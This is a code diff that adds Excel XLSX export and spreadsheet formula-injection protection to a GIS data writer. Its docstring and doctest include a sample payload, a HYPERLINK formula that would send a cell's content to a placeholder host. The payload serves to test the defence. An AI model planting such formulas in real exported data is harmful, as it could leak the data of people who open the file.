@@ -1,10 +1,20 @@
-"""Writers for other GIS tools: GeoJSON (RFC 7946), GeoPackage and CSV.
+"""Writers for other GIS tools and for Excel: GeoJSON (RFC 7946), GeoPackage, CSV and XLSX.
 
 GeoJSON follows RFC 7946: WGS84 longitude/latitude, counter-clockwise exterior rings (clockwise
 holes), at most 7 decimals, no ``crs`` member — GDAL's ``RFC7946`` option does all of it.
 GeoPackages are written as version 1.2, which every GIS in use reads (GDAL ≥ 3.11 would write
 1.4, which older GDAL, QGIS and ArcGIS warn about). CSV is UTF-8 with a BOM so that Excel shows
-Chinese, in WGS84, with 经度/纬度 columns for points and a ``wkt`` column otherwise.
+Chinese, in WGS84, with 经度/纬度 columns for points and a ``wkt`` column otherwise; XLSX holds
+the same table on one sheet, numbers as numbers.
+
+Spreadsheets run a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
+as a formula (``=HYPERLINK(…)`` in a compound's name, or in the account name of a failed login):
+every CSV and XLSX the project writes passes its text cells through :func:`spreadsheet_safe`,
+which puts a ``'`` in front as OWASP advises. Numbers stay numbers (``-3.5`` is no formula).
+
+The XLSX writer is XlsxWriter: it writes only what it is told to (a string stays a string, while
+openpyxl turns any text starting with ``=`` into a formula), streams rows in constant memory and
+is actively maintained.
 
 Examples
 --------
@@ -26,18 +36,58 @@ import numpy as np
 import pandas as pd
 import pyogrio
 import shapely
+import xlsxwriter
 
 from gridmap.errors import InputFileError
 from gridmap.io.geometry import polygonal
 from gridmap.layers import STORAGE_CRS
 
-FORMATS = {"geojson": ".geojson", "gpkg": ".gpkg", "csv": ".csv"}
+FORMATS = {"geojson": ".geojson", "gpkg": ".gpkg", "csv": ".csv", "xlsx": ".xlsx"}
 MEDIA_TYPES = {
     "geojson": "application/geo+json",
     "gpkg": "application/geopackage+sqlite3",
     "csv": "text/csv; charset=utf-8",
+    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
 }
 DECIMALS = 7  # RFC 7946 §11.2: about 1 cm, finer than any survey of a building
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+XLSX_CELL_LIMIT = 32_767  # characters Excel holds in one cell
+
+
+def spreadsheet_safe(value):
+    """Text that a spreadsheet would run as a formula, made inert with a leading ``'``.
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x"&A2,"点击")'))
+    '=HYPERLINK("http://x"&A2,"点击")
+    >>> spreadsheet_safe("-3"), spreadsheet_safe(-3), spreadsheet_safe("锦绣花园")
+    ("'-3", -3, '锦绣花园')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def spreadsheet_safe_table(table: pd.DataFrame) -> pd.DataFrame:
+    """:func:`spreadsheet_safe` on every text cell and header; numeric columns untouched."""
+    out = table.copy()
+    for column in out.columns:
+        values = out[column]
+        if pd.api.types.is_numeric_dtype(values.dtype):
+            continue
+        formula = values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_STARTS))
+        if formula.any():  # only those cells change: ints beside None stay ints
+            out.loc[formula.to_numpy(dtype=bool), column] = (
+                "'" + values[formula.to_numpy(dtype=bool)]
+            )
+    return out.rename(columns=lambda c: spreadsheet_safe(str(c)))
+
+
+def write_csv_table(table: pd.DataFrame, path: str | Path) -> Path:
+    """A plain table as CSV for Excel: UTF-8 with a BOM, formula starts neutralised, rows ended
+    by CRLF as RFC 4180 says (so that a cell holding a carriage return is quoted, not cut)."""
+    safe = spreadsheet_safe_table(table)
+    safe.to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
+    return Path(path)
 
 
 def export_format(fmt: str | None, path: str | Path | None = None) -> str:
@@ -108,7 +158,7 @@ def _on_decimals_grid(frame: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
 
 
 def write_frame(frame: pd.DataFrame, path: str | Path, fmt: str | None, layer_name: str) -> Path:
-    """Write a layer frame as ``fmt`` (geojson, gpkg or csv; None: from the suffix) to ``path``."""
+    """Write a layer frame as ``fmt`` (geojson, gpkg, csv or xlsx; None: from the suffix)."""
     fmt = export_format(fmt, path)
     path = Path(path)
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -117,7 +167,10 @@ def write_frame(frame: pd.DataFrame, path: str | Path, fmt: str | None, layer_na
     if spatial:
         frame = _wgs84(frame)
     if fmt == "csv":
-        _write_csv(frame, path, spatial)
+        write_csv_table(_table(frame, spatial), path)
+        return path
+    if fmt == "xlsx":
+        _write_xlsx(spreadsheet_safe_table(_table(frame, spatial)), path, layer_name)
         return path
     if not spatial:
         frame = gpd.GeoDataFrame(
@@ -140,7 +193,8 @@ def write_frame(frame: pd.DataFrame, path: str | Path, fmt: str | None, layer_na
     return path
 
 
-def _write_csv(frame: pd.DataFrame, path: Path, spatial: bool) -> None:
+def _table(frame: pd.DataFrame, spatial: bool) -> pd.DataFrame:
+    """The layer as a plain table: 经度/纬度 for points, ``wkt`` for other geometry."""
     if spatial:
         geoms = frame.geometry.values
         table = pd.DataFrame(frame.drop(columns=frame.geometry.name))
@@ -152,4 +206,41 @@ def _write_csv(frame: pd.DataFrame, path: Path, spatial: bool) -> None:
             table["wkt"] = shapely.to_wkt(geoms, rounding_precision=DECIMALS)
     else:
         table = pd.DataFrame(frame)
-    table.to_csv(path, index=False, encoding="utf-8-sig")
+    return table
+
+
+def _write_cell(sheet, r: int, c: int, value) -> None:
+    """Numbers and booleans as such (also in object columns), anything else as text."""
+    if isinstance(value, bool | np.bool_):
+        sheet.write_boolean(r, c, bool(value))
+    elif isinstance(value, int | float | np.integer | np.floating):
+        sheet.write_number(r, c, value)
+    else:
+        sheet.write_string(r, c, value if isinstance(value, str) else str(value))
+
+
+def _write_xlsx(table: pd.DataFrame, path: Path, sheet_name: str) -> None:
+    """One sheet, a bold frozen header row; text longer than a cell holds is listed, not cut."""
+    options = {"constant_memory": True, "strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}  # fmt: skip
+    too_long: list[str] = []
+    with xlsxwriter.Workbook(str(path), options) as book:
+        sheet = book.add_worksheet(sheet_name[:31])
+        header = book.add_format({"bold": True})
+        for c, name in enumerate(table.columns):
+            sheet.write_string(0, c, str(name), header)
+        sheet.freeze_panes(1, 0)
+        codes = table["code"].tolist() if "code" in table else None
+        for r, row in enumerate(table.itertuples(index=False, name=None), start=1):
+            for c, value in enumerate(row):
+                if value is None or value is pd.NA or (isinstance(value, float) and not np.isfinite(value)):  # fmt: skip
+                    continue
+                if isinstance(value, str) and len(value) > XLSX_CELL_LIMIT:
+                    too_long.append(f"{codes[r - 1] if codes else r + 1}: {table.columns[c]}")
+                    continue
+                _write_cell(sheet, r, c, value)
+        if too_long:
+            notes = book.add_worksheet("说明 notes")
+            notes.write_string(0, 0, f"以下单元格超过 Excel 的 {XLSX_CELL_LIMIT} 字符上限，未写入；"
+                               "请导出 GeoPackage 或 GeoJSON / cells over Excel's limit, left empty:")  # fmt: skip
+            for i, item in enumerate(too_long, start=1):
+                notes.write_string(i, 0, spreadsheet_safe(item))
